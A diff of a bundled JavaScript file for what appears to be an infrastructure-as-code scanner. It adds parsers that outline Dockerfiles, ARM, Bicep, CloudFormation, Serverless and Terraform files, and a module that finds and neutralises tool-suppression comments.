 async function placeSet({ set, python, folder }, means, before, ports) {
     const uv = python.hasPip ? undefined : await ports.exec.find('uv');
@@ -65333,7 +64618,7 @@ async function placeSet({ set, python, folder }, means, before, ports) {
         const filled = await fillSite(set, { python, uv, site: `${fresh}/site`, ...means }, ports);
         failed = [...before, ...filled.failed];
         if (filled.origin === undefined)
-            throw explainAttempts(title, failed, hint);
+            throw explainAttempts(title, failed, python_set_hint);
         const manifest = await takeManifest(`${fresh}/site`, filled.origin, ports);
         await ports.files.write(`${fresh}/manifest.json`, `${JSON.stringify(manifest)}\n`);
     }, ports);
@@ -65428,7 +64713,7 @@ const install_tool_explainOffline = (build, attempts) => new errors/* GatehouseE
     ...attempts.map(({ origin, sentence }) => `${origin}: ${sentence}`),
 ].join(' '), { hint: 'Run gatehouse setup while there is a network.' });
 
-;// CONCATENATED MODULE: ./build/js/flow/scan/supplies.js
+;// CONCATENATED MODULE: ./build/js/flow/scan/supply/supplies.js
 
 
 
@@ -65463,6 +64748,66 @@ function suppliesOf(request, ports) {
 function tellOfTampering(tool, problem, ports) {
     if (problem.code === 'DIGEST_MISMATCH')
         ports.progress.step(`check ${tool}`, 'failed', problem.sentence);
+}
+
+;// CONCATENATED MODULE: ./build/js/repository/skips.js
+const asUtf8 = (latin1) => Buffer.from(latin1, 'latin1').toString('utf8');
+/** Every match, also those that begin inside the words of another: `x:ignore:A x:ignore:B` is two comments. */
+function* matchesOf(text, rule) {
+    const pattern = new RegExp(rule.pattern.source, `${rule.pattern.flags.replace(/[gy]/g, '')}g`);
+    for (let match = pattern.exec(text); match !== null; match = pattern.exec(text)) {
+        yield match;
+        pattern.lastIndex = match.index + 1;
+    }
+}
+const splitIds = (text) => text.split(/[\s,]+/).filter((id) => id !== '');
+/** A line of a generated file has no end worth reading. */
+const longestRest = 400;
+/** The comment and what follows it on its line. */
+function restOfLine(text, match) {
+    const end = match.index + match[0].length;
+    return match[0] + (/^[^\n]*/.exec(text.slice(end, end + longestRest))?.[0] ?? '');
+}
+/** True when the comment means nothing any more on this UTC day; a day that is none ended it long ago. */
+const isExpired = ({ expires }, today) => expires !== undefined && !(/^\d{4}-\d{2}-\d{2}$/.test(expires) && today < expires);
+/** Every comment of `text` (bytes read as Latin-1, so that offsets are bytes) that asks a tool to keep quiet. */
+function findSkips(text, rules) {
+    const found = [];
+    for (const rule of rules) {
+        let [line, counted] = [1, 0];
+        for (const match of matchesOf(text, rule)) {
+            for (let at = text.indexOf('\n', counted); at >= 0 && at < match.index; at = text.indexOf('\n', counted)) {
+                line += 1;
+                counted = at + 1;
+            }
+            const reason = asUtf8(match[2] ?? '').trim();
+            const ids = splitIds(match[1] ?? '').map((id) => rule.canonical(id));
+            const expires = rule.expires?.(restOfLine(text, match));
+            found.push({
+                line,
+                tool: rule.tool,
+                rules: ids,
+                ...(reason === '' ? {} : { reason }),
+                ...(expires === undefined ? {} : { expires }),
+            });
+        }
+    }
+    return found.sort((a, b) => a.line - b.line);
+}
+/** The same bytes with every such comment made meaningless to its tool: its first colon becomes `_`, so nothing moves. */
+function neutralise(text, rules) {
+    const colons = rules
+        .filter((rule) => rule.neutralise)
+        .flatMap((rule) => [...matchesOf(text, rule)].map((match) => text.indexOf(':', match.index)))
+        .sort((a, b) => a - b);
+    let [result, from] = ['', 0];
+    for (const colon of colons) {
+        if (colon < from)
+            continue;
+        result += `${text.slice(from, colon)}_`;
+        from = colon + 1;
+    }
+    return result + text.slice(from);
 }
 
 ;// CONCATENATED MODULE: ./build/js/repository/too-large.js
@@ -65662,6 +65007,2034 @@ function planScans(inventory, tools) {
         .filter(({ formats }) => formats.length > 0);
 }
 
+;// CONCATENATED MODULE: ./build/js/repository/locate/dockerfile/dockerfile-scanner.js
+const keywords = new Set('ADD ARG CMD COPY ENTRYPOINT ENV EXPOSE FROM HEALTHCHECK LABEL MAINTAINER ONBUILD RUN SHELL STOPSIGNAL USER VOLUME WORKDIR'.split(' '));
+/** Cuts a Dockerfile into instructions: continued lines, comments and blank lines between them, heredocs, the escape directive. */
+function readInstructions(lines) {
+    const escapeSign = escapeOf(lines);
+    const terminators = createTerminators(lines);
+    const instructions = [];
+    let isWhole = true;
+    for (let at = 0; at < lines.length;) {
+        const line = withoutBom(lines[at] ?? '', at);
+        if (isBlank(line) || isComment(line)) {
+            at += 1;
+            continue;
+        }
+        const { text, next } = logicalLine(lines, at, escapeSign);
+        const keyword = /^[ \t]*([A-Za-z]+)(?=[ \t]|$)/.exec(text)?.[1]?.toUpperCase() ?? '';
+        const end = endOfHeredocs(keyword, text, next, terminators);
+        if (keywords.has(keyword)) {
+            const rest = text.trimStart().slice(keyword.length).trim();
+            instructions.push({ keyword, text: rest, startLine: at + 1, endLine: end.next });
+        }
+        if (!keywords.has(keyword) || !end.isFound)
+            isWhole = false;
+        at = end.next;
+    }
+    return { instructions, isWhole };
+}
+const withoutBom = (line, at) => (at === 0 ? line.replace(/^\uFEFF/, '') : line);
+const isBlank = (line) => line.trim() === '';
+const isComment = (line) => /^[ \t]*#/.test(line);
+/** Parser directives stand at the top, one a line; any other comment ends them. */
+function escapeOf(lines) {
+    for (const [index, line] of lines.entries()) {
+        const [, name, value] = /^[ \t]*#[ \t]*([A-Za-z]+)[ \t]*=[ \t]*(\S+)[ \t]*$/.exec(withoutBom(line, index)) ?? [];
+        if (name === undefined)
+            break;
+        if (name.toLowerCase() === 'escape' && value === '`')
+            return '`';
+    }
+    return '\\';
+}
+function logicalLine(lines, from, escapeSign) {
+    const parts = [];
+    let [next, last] = [from, from];
+    for (let isOpen = true; isOpen && next < lines.length; next += 1) {
+        const line = withoutBom(lines[next] ?? '', next);
+        if (next > from && (isBlank(line) || isComment(line)))
+            continue;
+        last = next;
+        const trimmed = line.trimEnd();
+        isOpen = trimmed.endsWith(escapeSign);
+        parts.push(isOpen ? trimmed.slice(0, -1) : line);
+    }
+    return { text: parts.join(' '), next: last + 1 };
+}
+/** Only RUN, COPY and ADD take heredocs; one line may open several, one after the other. */
+function endOfHeredocs(keyword, text, next, terminators) {
+    if (keyword !== 'RUN' && keyword !== 'COPY' && keyword !== 'ADD')
+        return { next, isFound: true };
+    let end = next;
+    for (const match of text.matchAll(/(?:^|[\s;&|(])\d*<<(-?)(["']?)([A-Za-z_][A-Za-z0-9_.]*)\2(?![^\s;&|)])/g)) {
+        const line = terminators(match[3] ?? '', end, match[1] === '-');
+        if (line === undefined)
+            return { next: end, isFound: false };
+        end = line + 1;
+    }
+    return { next: end, isFound: true };
+}
+function createTerminators(lines) {
+    let ends;
+    const passed = new Map();
+    return (name, from, areTabsAllowed) => {
+        ends ??= terminatorLines(lines);
+        const key = areTabsAllowed ? `-${name}` : name;
+        const own = ends.get(key) ?? [];
+        let index = passed.get(key) ?? 0;
+        while ((own[index] ?? from) < from)
+            index += 1;
+        passed.set(key, index);
+        return own[index];
+    };
+}
+/** Lines of one word, by the word, and with a dash before it where tabs may stand before it. */
+function terminatorLines(lines) {
+    const ends = new Map();
+    for (const [index, line] of lines.entries()) {
+        const [, tabs, name] = /^(\t*)([A-Za-z_][A-Za-z0-9_.]*)$/.exec(line) ?? [];
+        if (name === undefined)
+            continue;
+        for (const key of tabs === '' ? [name, `-${name}`] : [`-${name}`]) {
+            const known = ends.get(key);
+            if (known === undefined)
+                ends.set(key, [index]);
+            else
+                known.push(index);
+        }
+    }
+    return ends;
+}
+
+;// CONCATENATED MODULE: ./build/js/repository/locate/dockerfile/dockerfile.js
+
+
+const type = 'dockerfile';
+/** Dockerfiles: a stage is a subject (its name, else its number), its instructions are parts, FROM too. */
+const dockerfile_dockerfile = {
+    formats: ['dockerfile'],
+    outline(text) {
+        const lines = linesOf(text);
+        const { instructions, isWhole } = readInstructions(lines);
+        const first = instructions.findIndex(({ keyword }) => keyword === 'FROM');
+        const before = first < 0 ? instructions : instructions.slice(0, first);
+        const children = [
+            ...before.map((instruction) => dockerfile_partOf(instruction, '')),
+            ...stagesOf(instructions.slice(before.length)),
+        ];
+        // What a tool says of the whole file (no USER, no HEALTHCHECK) is about the file, also while it has one stage only.
+        const whole = { label: 'Dockerfile', startLine: 1, endLine: lines.length, children };
+        return { spans: children.length === 0 ? [] : [whole], lines: lines.length, parsed: isWhole && first >= 0 };
+    },
+};
+const dockerfile_partOf = ({ keyword, startLine, endLine }, address) => ({
+    label: keyword,
+    startLine,
+    endLine,
+    subject: { type, address, part: keyword },
+    children: [],
+});
+/** Cuts instructions that begin with a FROM into stages. */
+function stagesOf(instructions) {
+    const stages = [];
+    for (const instruction of instructions) {
+        if (instruction.keyword === 'FROM')
+            stages.push([instruction]);
+        else
+            stages.at(-1)?.push(instruction);
+    }
+    return stages.map((stage, index) => {
+        const name = /^\S.*\sAS\s+(\S+)\s*$/i.exec(stage[0]?.text ?? '')?.[1];
+        const address = name?.toLowerCase() ?? String(index);
+        return {
+            label: `stage ${address}`,
+            startLine: stage[0]?.startLine ?? 1,
+            endLine: stage.at(-1)?.endLine ?? 1,
+            subject: { type, address },
+            children: stage.map((instruction) => dockerfile_partOf(instruction, address)),
+        };
+    });
+}
+
+;// CONCATENATED MODULE: ./build/js/repository/locate/yaml/document-spans.js
+
+/** The span of a key and its value. */
+const spanOfEntry = (entry, label, subject, children) => ({
+    label,
+    startLine: entry.key.startLine,
+    endLine: Math.max(entry.key.endLine, entry.value.endLine),
+    ...(subject === undefined ? {} : { subject }),
+    children,
+});
+const spanOfNode = (node, label, subject, children) => ({
+    label,
+    startLine: node.startLine,
+    endLine: node.endLine,
+    ...(subject === undefined ? {} : { subject }),
+    children,
+});
+/** Maps in a map, and maps in its lists, as parts without a subject; named by their keys. */
+const nestedSpans = (node) => entriesOf(node).flatMap((entry) => entry.value.kind === 'map'
+    ? [spanOfEntry(entry, entry.key.text, undefined, nestedSpans(entry.value))]
+    : itemsOf(entry.value).flatMap((item) => item.kind === 'map' ? [spanOfNode(item, entry.key.text, undefined, nestedSpans(item))] : []));
+
+;// CONCATENATED MODULE: ./build/js/repository/locate/templates/arm.js
+
+
+
+
+/** Azure Resource Manager templates: a resource is a subject `type/name`, also one inside another or in a nested deployment. */
+const arm = {
+    formats: ['arm'],
+    outline(text) {
+        const read = readDocuments(text);
+        const spans = read.documents.flatMap(({ root }) => resourcesOf(document_tree_valueAt(root, 'resources'), undefined));
+        return { spans, lines: linesOf(text).length, parsed: isUnderstood(read) };
+    },
+};
+/** A list, or since language version 2.0 a map of symbolic names. */
+const resourcesOf = (resources, parent) => [
+    ...itemsOf(resources).flatMap((item) => resourceSpan(item, undefined, parent)),
+    ...entriesOf(resources).flatMap((entry) => resourceSpan(entry.value, entry, parent)),
+];
+function resourceSpan(resource, entry, parent) {
+    const own = textOf(document_tree_valueAt(resource, 'type'));
+    if (own === undefined)
+        return [];
+    const type = parent === undefined || own.includes('.') ? own : `${parent}/${own}`;
+    const name = textOf(document_tree_valueAt(resource, 'name')) ?? entry?.key.text ?? '';
+    const subject = { type, address: `${type}/${name}` };
+    const children = [
+        ...resourcesOf(document_tree_valueAt(resource, 'resources'), type),
+        ...resourcesOf(document_tree_valueAt(resource, 'properties', 'template', 'resources'), undefined),
+    ];
+    const inner = children.length > 0 ? children : nestedSpans(document_tree_valueAt(resource, 'properties'));
+    const label = `${type} ${name}`;
+    return [entry === undefined ? spanOfNode(resource, label, subject, inner) : spanOfEntry(entry, label, subject, inner)];
+}
+
+;// CONCATENATED MODULE: ./build/js/repository/locate/terraform/brace-ends.js
+/** Follows strings in expressions in strings with a stack of what is open: `true` a string, `false` a brace. */
+function stringEnd({ text, at: start, dialect, isRecovering }) {
+    const open = [true];
+    let isLiteral = true;
+    let at = start + 1;
+    for (; at < text.length && open.length > 0; at += 1) {
+        const character = text[at];
+        const inString = open.at(-1) === true;
+        if (character === '\n' && (open.length === 1 || isRecovering))
+            return { end: at, isLiteral, isClosed: false };
+        if (character === dialect.quote) {
+            if (inString)
+                open.pop();
+            else
+                open.push(true);
+        }
+        else if (!inString) {
+            if (character === '{')
+                open.push(false);
+            else if (character === '}')
+                open.pop();
+        }
+        else if (character === '\\' && dialect.escapes)
+            at += text[at + 1] === '\n' ? 0 : 1;
+        else if (opensExpression(text, at, dialect)) {
+            isLiteral = false;
+            open.push(false);
+            at += 1;
+        }
+        else if (isEscapedOpening(text, at, dialect))
+            at += 2;
+    }
+    return { end: Math.min(at, text.length), isLiteral, isClosed: open.length === 0 };
+}
+const isOpening = (character, dialect) => character === '$' || (character === '%' && dialect.directives);
+const opensExpression = (text, at, dialect) => isOpening(text[at], dialect) && text[at + 1] === '{';
+/** `$${` and `%%{` are written to mean `${` and `%{` themselves. */
+const isEscapedOpening = (text, at, dialect) => dialect.directives && isOpening(text[at], dialect) && text[at + 1] === text[at] && text[at + 2] === '{';
+/** Where a line that holds one word and nothing else ends, from an offset on; offsets asked for must rise. */
+function lazyTerminators(text) {
+    let ends;
+    const passed = new Map();
+    return (name, from) => {
+        ends ??= terminatorsOf(text);
+        const own = ends.get(name) ?? [];
+        let index = passed.get(name) ?? 0;
+        while ((own[index] ?? from) < from)
+            index += 1;
+        passed.set(name, index);
+        return own[index];
+    };
+}
+function terminatorsOf(text) {
+    const ends = new Map();
+    for (const match of text.matchAll(/^[ \t]*([\p{L}_][\p{L}\p{N}_-]*)[ \t]*\r?$/gmu)) {
+        const name = match[1] ?? '';
+        const end = match.index + match[0].length;
+        const known = ends.get(name);
+        if (known === undefined)
+            ends.set(name, [end]);
+        else
+            known.push(end);
+    }
+    return ends;
+}
+
+;// CONCATENATED MODULE: ./build/js/repository/locate/terraform/brace-scanner.js
+
+/**
+ * Splits a text into tokens, one pass, linear. While recovering, nothing reaches over the end of its line that could have been
+ * left open by mistake: strings end there, and a line that can only be at the top of a file says so.
+ */
+function scanBraces(text, dialect, isRecovering) {
+    const cursor = {
+        text,
+        dialect,
+        isRecovering,
+        heredocEnd: lazyTerminators(text),
+        at: text.startsWith('\uFEFF') ? 1 : 0,
+        line: 1,
+        newline: newlineFrom(text, 0),
+        broken: false,
+        endlessComments: false,
+    };
+    let isLineStart = true;
+    return {
+        isBroken: () => cursor.broken,
+        next() {
+            if (isLineStart && isRecovering && atTop(cursor)) {
+                isLineStart = false;
+                return { type: 'top', line: cursor.line };
+            }
+            const token = nextToken(cursor);
+            isLineStart = token?.type === 'newline';
+            return token;
+        },
+    };
+}
+function atTop({ dialect: { top }, text, at }) {
+    top.lastIndex = at;
+    return top.test(text);
+}
+const brace_scanner_word = /[\p{L}_][\p{L}\p{N}_-]*/uy;
+const blanks = /[ \t\r]+/y;
+const marks = '{}[]()=';
+function nextToken(cursor) {
+    for (;;) {
+        const { text, at, line } = cursor;
+        const character = text[at];
+        if (character === undefined)
+            return undefined;
+        if (character === ' ' || character === '\t' || character === '\r')
+            cursor.at = brace_scanner_endOf(blanks, cursor);
+        else if (!brace_scanner_skipComment(cursor))
+            return tokenAt(cursor, character, line);
+    }
+}
+function tokenAt(cursor, character, line) {
+    if (character === '\n') {
+        moveTo(cursor, cursor.at + 1);
+        return { type: 'newline', line };
+    }
+    if (character === cursor.dialect.quote)
+        return { type: 'string', text: brace_scanner_readString(cursor), line };
+    if (skipHeredoc(cursor))
+        return { type: 'string', text: undefined, line };
+    const end = brace_scanner_endOf(brace_scanner_word, cursor);
+    if (end > cursor.at) {
+        const text = cursor.text.slice(cursor.at, end);
+        cursor.at = end;
+        return { type: 'word', text, line };
+    }
+    cursor.at += 1;
+    return marks.includes(character) ? { type: 'mark', text: character, line } : { type: 'other', line };
+}
+function brace_scanner_endOf(pattern, { text, at }) {
+    pattern.lastIndex = at;
+    return pattern.test(text) ? pattern.lastIndex : at;
+}
+/** Moves on, counting the lines passed; the next line break is remembered, so that a text without any is not searched each time. */
+function moveTo(cursor, end) {
+    while (cursor.newline < end) {
+        cursor.line += 1;
+        cursor.newline = newlineFrom(cursor.text, cursor.newline + 1);
+    }
+    cursor.at = end;
+}
+function newlineFrom(text, from) {
+    const found = text.indexOf('\n', from);
+    return found < 0 ? Number.POSITIVE_INFINITY : found;
+}
+function brace_scanner_skipComment(cursor) {
+    const { text, at, dialect } = cursor;
+    const isLine = text.startsWith('//', at) || (dialect.hashComments && text[at] === '#');
+    if (isLine) {
+        const end = text.indexOf('\n', at);
+        cursor.at = end < 0 ? text.length : end;
+        return true;
+    }
+    if (!text.startsWith('/*', at))
+        return false;
+    const end = cursor.endlessComments ? -1 : text.indexOf('*/', at + 2);
+    if (end >= 0)
+        moveTo(cursor, end + 2);
+    else {
+        cursor.broken = true;
+        cursor.endlessComments = true;
+        const endOfLine = text.indexOf('\n', at);
+        cursor.at = endOfLine < 0 ? text.length : endOfLine;
+    }
+    return true;
+}
+const heredoc = /<<-?([\p{L}_][\p{L}\p{N}_-]*)[ \t]*\r?\n/uy;
+/** A heredoc that never ends is none: the signs are taken one by one, and the rest of the file stays readable. */
+function skipHeredoc(cursor) {
+    if (!cursor.dialect.heredocs || !cursor.text.startsWith('<<', cursor.at))
+        return false;
+    heredoc.lastIndex = cursor.at;
+    const name = heredoc.exec(cursor.text)?.[1];
+    if (name === undefined)
+        return false;
+    const end = cursor.heredocEnd(name, heredoc.lastIndex);
+    if (end === undefined)
+        cursor.broken = true;
+    else
+        moveTo(cursor, end);
+    return end !== undefined;
+}
+function brace_scanner_readString(cursor) {
+    const { text, at, dialect } = cursor;
+    const triple = dialect.quote.repeat(3);
+    if (dialect.tripleQuotes && text.startsWith(triple, at))
+        return readRaw(cursor, triple);
+    const { end, isLiteral, isClosed } = stringEnd(cursor);
+    if (!isClosed)
+        cursor.broken = true;
+    moveTo(cursor, end);
+    return isLiteral && isClosed ? text.slice(at + 1, end - 1) : undefined;
+}
+function readRaw(cursor, quotes) {
+    const { text, at } = cursor;
+    const end = text.indexOf(quotes, at + quotes.length);
+    if (end < 0)
+        cursor.broken = true;
+    moveTo(cursor, end < 0 ? text.length : end + quotes.length);
+    return end < 0 ? undefined : text.slice(at + quotes.length, end);
+}
+
+;// CONCATENATED MODULE: ./build/js/repository/locate/templates/bicep.js
+
+
+const dialect = {
+    quote: "'",
+    hashComments: false,
+    heredocs: false,
+    tripleQuotes: true,
+    directives: false,
+    escapes: true,
+    top: /(?:resource|module|param|output|var|targetScope|metadata|type|func|import)\b[ \t]*[\w=]/y,
+};
+/** Bicep: resources, modules and parameters are subjects, named by their symbols; a resource inside another is `outer::inner`. */
+const bicep = {
+    formats: ['bicep'],
+    outline(text) {
+        const strict = readDeclarations(text, false);
+        const { spans } = strict.isWhole ? strict : readDeclarations(text, true);
+        return { spans, lines: linesOf(text).length, parsed: strict.isWhole };
+    },
+};
+/** Declarations deeper than this belong to the one above them. */
+const deepest = 50;
+function readDeclarations(text, isRecovering) {
+    const scanner = scanBraces(text, dialect, isRecovering);
+    const reader = { spans: [], open: [], head: [], depth: 0, line: 1, isWhole: true };
+    for (let token = scanner.next(); token !== undefined; token = scanner.next())
+        bicep_step(reader, token);
+    if (reader.depth > 0 || scanner.isBroken())
+        reader.isWhole = false;
+    closeDown(reader, 0, reader.line);
+    return reader;
+}
+function bicep_step(reader, token) {
+    if (token.type === 'top') {
+        if (reader.depth > 0)
+            reader.isWhole = false;
+        reader.depth = 0;
+        closeDown(reader, 0, token.line - 1);
+        return;
+    }
+    if (token.type === 'newline') {
+        closeDown(reader, reader.depth, reader.line);
+        reader.head = [];
+        return;
+    }
+    reader.line = token.line;
+    if (token.type === 'mark')
+        stepMark(reader, token.text);
+    else if (reader.head.length < 3)
+        declare(reader, token);
+}
+function stepMark(reader, mark) {
+    if ('{[('.includes(mark)) {
+        reader.depth += 1;
+        reader.head = [];
+    }
+    else if ('}])'.includes(mark)) {
+        if (reader.depth === 0)
+            reader.isWhole = false;
+        else
+            reader.depth -= 1;
+    }
+    else
+        reader.head.push({ type: 'other', line: reader.line }, { type: 'other', line: reader.line }, { type: 'other', line: reader.line });
+}
+function declare(reader, token) {
+    reader.head.push(token);
+    const [keyword, symbol, third] = reader.head;
+    if (keyword?.type !== 'word' || symbol?.type !== 'word')
+        return;
+    const declared = declarationOf(keyword.text, symbol.text, third, reader);
+    if (declared === undefined || reader.open.length >= deepest)
+        return;
+    const label = `${keyword.text} ${symbol.text}`;
+    reader.open.push({ label, subject: declared, startLine: keyword.line, depth: reader.depth, children: [] });
+}
+function declarationOf(keyword, symbol, third, reader) {
+    if (keyword === 'param' && third === undefined)
+        return { type: 'param', address: `param.${symbol}` };
+    if (third?.type !== 'string' || (keyword !== 'resource' && keyword !== 'module'))
+        return undefined;
+    if (keyword === 'module')
+        return { type: 'module', address: `module.${symbol}` };
+    const parent = reader.open.at(-1)?.subject;
+    const own = (third.text ?? '').replace(/@[^@]*$/, '');
+    const type = parent === undefined || own.includes('.') ? own : `${parent.type}/${own}`;
+    return { type, address: parent === undefined ? symbol : `${parent.address}::${symbol}` };
+}
+/** Ends every declaration that began at this depth or deeper. */
+function closeDown(reader, depth, endLine) {
+    for (let last = reader.open.at(-1); last !== undefined && last.depth >= depth; last = reader.open.at(-1)) {
+        reader.open.pop();
+        const { label, subject, startLine, children } = last;
+        const siblings = reader.open.at(-1)?.children ?? reader.spans;
+        siblings.push({ label, startLine, endLine: Math.max(startLine, endLine), subject, children });
+    }
+}
+
+;// CONCATENATED MODULE: ./build/js/repository/locate/templates/cloudformation.js
+
+
+
+
+/** CloudFormation and SAM templates, YAML and JSON: a resource is a subject, named by its logical id. */
+const cloudformation = {
+    formats: ['cloudformation'],
+    outline(text) {
+        const read = readDocuments(text);
+        const spans = read.documents.flatMap(({ root }) => resourceSpans(document_tree_valueAt(root, 'Resources')));
+        return { spans, lines: linesOf(text).length, parsed: isUnderstood(read) };
+    },
+};
+/** The map of logical ids; objects among the properties are blocks within. What has no type is no resource. */
+const resourceSpans = (resources) => entriesOf(resources).flatMap((entry) => {
+    const type = textOf(document_tree_valueAt(entry.value, 'Type'));
+    if (type === undefined)
+        return [];
+    const address = entry.key.text;
+    return [spanOfEntry(entry, address, { type, address }, nestedSpans(document_tree_valueAt(entry.value, 'Properties')))];
+});
+
+;// CONCATENATED MODULE: ./build/js/repository/locate/templates/serverless.js
+
+
+
+
+
+/** Serverless Framework: `provider`, each function as `functions.<name>`, and CloudFormation resources by their logical id. */
+const serverless = {
+    formats: ['serverless'],
+    outline(text) {
+        const read = readDocuments(text);
+        const spans = read.documents.flatMap(({ root }) => [
+            ...providerSpans(root),
+            ...functionSpans(document_tree_valueAt(root, 'functions')),
+            ...oneOrMany(document_tree_valueAt(root, 'resources')).flatMap((part) => resourceSpans(document_tree_valueAt(part, 'Resources'))),
+        ]);
+        return {
+            spans: spans.sort((a, b) => a.startLine - b.startLine),
+            lines: linesOf(text).length,
+            parsed: isUnderstood(read),
+        };
+    },
+};
+const oneOrMany = (node) => node?.kind === 'seq' ? itemsOf(node) : [node];
+function providerSpans(root) {
+    const entry = entryOf(root, 'provider');
+    if (entry === undefined)
+        return [];
+    return [spanOfEntry(entry, 'provider', { type: 'provider', address: 'provider' }, nestedSpans(entry.value))];
+}
+/** Functions are a map or a list of maps. */
+const functionSpans = (functions) => oneOrMany(functions).flatMap((part) => entriesOf(part).map((entry) => {
+    const subject = { type: 'function', address: `functions.${entry.key.text}` };
+    return spanOfEntry(entry, `function ${entry.key.text}`, subject, nestedSpans(entry.value));
+}));
+
+;// CONCATENATED MODULE: ./build/js/repository/locate/terraform/terraform-subject.js
+/** `resource` is left out of the address and `data` is not, as Terraform writes it; the type is the provider's, else the block's. */
+function terraformSubject(block, labels) {
+    const [type = ''] = labels;
+    if (block === 'resource')
+        return { type, address: labels.join('.') };
+    const address = [block, ...labels].join('.');
+    return { type: block === 'data' || block === 'ephemeral' ? type : block, address };
+}
+
+;// CONCATENATED MODULE: ./build/js/repository/locate/terraform/terraform-json.js
+
+
+
+
+
+/** How many names a block of this type has; what is not listed has none. */
+const terraform_json_namesOf = {
+    resource: 2,
+    data: 2,
+    ephemeral: 2,
+    module: 1,
+    provider: 1,
+    variable: 1,
+    output: 1,
+    check: 1,
+};
+/** Terraform's JSON syntax: the same subjects as in HCL; every object below them counts as a block. */
+function terraformJson(text) {
+    const read = readDocuments(text);
+    const spans = read.documents.flatMap(({ root }) => blocksOf(root).map(spanOf));
+    return {
+        spans: spans.sort((a, b) => a.startLine - b.startLine),
+        lines: linesOf(text).length,
+        parsed: isUnderstood(read),
+    };
+}
+/** Every module call of a file with a literal source. */
+function jsonModuleCalls(text) {
+    const blocks = readDocuments(text).documents.flatMap(({ root }) => blocksOf(root));
+    return blocks.flatMap((block) => {
+        const [name] = block.labels;
+        const source = textOf(document_tree_valueAt(block.body, 'source'));
+        if (block.type !== 'module' || name === undefined || source === undefined || /[$%]\{/.test(source))
+            return [];
+        const { startLine, endLine } = spanOf(block);
+        return [{ name, source, startLine, endLine }];
+    });
+}
+/** An object or a list of objects stands for one block or several, at every level. */
+const terraform_json_oneOrMany = (node) => node?.kind === 'map' ? [node] : itemsOf(node).filter(({ kind }) => kind === 'map');
+const blocksOf = (root) => terraform_json_oneOrMany(root).flatMap((map) => entriesOf(map).flatMap((entry) => entry.key.text === '//' ? [] : terraform_json_named(entry, terraform_json_namesOf[entry.key.text] ?? 0, entry.key.text, [])));
+function terraform_json_named(entry, names, type, labels) {
+    if (names === 0)
+        return terraform_json_oneOrMany(entry.value).map((body) => ({ type, labels, entry, body }));
+    return terraform_json_oneOrMany(entry.value).flatMap((map) => entriesOf(map).flatMap((inner) => terraform_json_named(inner, names - 1, type, [...labels, inner.key.text])));
+}
+function spanOf({ type, labels, entry, body }) {
+    const label = [type, ...labels.map((name) => `"${name}"`)].join(' ');
+    const subject = terraformSubject(type, labels);
+    const children = nestedSpans(body);
+    return entry.value === body
+        ? spanOfEntry(entry, label, subject, children)
+        : spanOfNode(body, label, subject, children);
+}
+
+;// CONCATENATED MODULE: ./build/js/repository/locate/terraform/terraform-scanner.js
+
+const hcl = {
+    quote: '"',
+    hashComments: true,
+    heredocs: true,
+    tripleQuotes: false,
+    directives: true,
+    escapes: true,
+    top: /(?:(?:resource|data|ephemeral)[ \t]+"[^"\n]*"[ \t]+"[^"\n]*"|(?:module|variable|output|provider)[ \t]+"[^"\n]*"|terraform|locals)[ \t]*\{/y,
+};
+/** Blocks deeper than this belong to the one above them. */
+const terraform_scanner_deepest = 50;
+const mostLabels = 8;
+/** Reads the blocks of a text. One that is broken is read again with less trust, so that one slip costs one block. */
+function readHcl(text) {
+    const strict = readBlocks(text, false);
+    return strict.isWhole ? strict : { ...readBlocks(text, true), isWhole: false };
+}
+function readBlocks(text, isRecovering) {
+    const scanner = scanBraces(text, hcl, isRecovering);
+    const reader = { next: scanner.next, open: [], blocks: [], head: [], line: 1, isBroken: false };
+    for (let token = reader.next(); token !== undefined; token = reader.next())
+        terraform_scanner_step(reader, token);
+    const isWhole = reader.open.length === 0 && !reader.isBroken && !scanner.isBroken();
+    closeAll(reader, reader.line);
+    return { blocks: reader.blocks, isWhole };
+}
+function terraform_scanner_step(reader, token) {
+    if (token.type !== 'newline')
+        reader.line = token.line;
+    switch (token.type) {
+        case 'newline':
+            reader.head = [];
+            return;
+        case 'top':
+            closeAll(reader, Math.max(1, token.line - 1));
+            return;
+        case 'word':
+            extendHead(reader, token.text, token.line);
+            return;
+        case 'string':
+            if (reader.head?.length === 0 || token.text === undefined)
+                reader.head = undefined;
+            else
+                extendHead(reader, token.text, token.line);
+            return;
+        case 'mark':
+            terraform_scanner_stepMark(reader, token.text, token.line);
+            return;
+        case 'other':
+            reader.head = undefined;
+    }
+}
+function extendHead(reader, text, line) {
+    if (reader.head === undefined)
+        return;
+    if (reader.head.length > mostLabels)
+        reader.head = undefined;
+    else
+        reader.head.push({ text, line });
+}
+function terraform_scanner_stepMark(reader, mark, line) {
+    if (mark === '{')
+        openBlock(reader);
+    else if (mark === '}')
+        closeBlock(reader, line);
+    else if (mark === '=')
+        readAttribute(reader);
+    else {
+        reader.head = undefined;
+        if (mark === '(' || mark === '[')
+            skipGroup(reader);
+    }
+}
+function openBlock(reader) {
+    const [first, ...labels] = reader.head ?? [];
+    reader.head = [];
+    if (first === undefined)
+        skipGroup(reader);
+    else {
+        const names = labels.map(({ text }) => text);
+        reader.open.push({ type: first.text, labels: names, startLine: first.line, blocks: [], source: undefined });
+    }
+}
+function closeBlock(reader, endLine) {
+    reader.head = [];
+    const block = reader.open.pop();
+    if (block === undefined) {
+        reader.isBroken = true;
+        return;
+    }
+    if (reader.open.length >= terraform_scanner_deepest)
+        return;
+    const { type, labels, startLine, blocks, source } = block;
+    const siblings = reader.open.at(-1)?.blocks ?? reader.blocks;
+    siblings.push({ type, labels, startLine, endLine, blocks, ...(source === undefined ? {} : { source }) });
+}
+function closeAll(reader, endLine) {
+    if (reader.open.length > 0)
+        reader.isBroken = true;
+    while (reader.open.length > 0)
+        closeBlock(reader, Math.max(endLine, reader.open.at(-1)?.startLine ?? endLine));
+    reader.head = [];
+}
+/** After `=`: the value, which ends with its line unless brackets are open. */
+function readAttribute(reader) {
+    const name = reader.head?.length === 1 ? reader.head[0]?.text : undefined;
+    reader.head = undefined;
+    const token = reader.next();
+    const block = reader.open.at(-1);
+    if (name === 'source' && token?.type === 'string' && block !== undefined)
+        block.source = token.text;
+    const end = endOfValue(reader, token);
+    if (end !== undefined)
+        terraform_scanner_step(reader, end);
+}
+/** The token that ends the value: the end of its line, the end of the block around it, or the top of a file again. */
+function endOfValue(reader, first) {
+    let open = 0;
+    for (let token = first; token !== undefined; token = reader.next()) {
+        if (token.type === 'top' || (token.type === 'newline' && open === 0))
+            return token;
+        if (token.type !== 'newline')
+            reader.line = token.line;
+        const change = token.type === 'mark' ? bracketChange(token.text) : 0;
+        if (open + change < 0)
+            return token;
+        open += change;
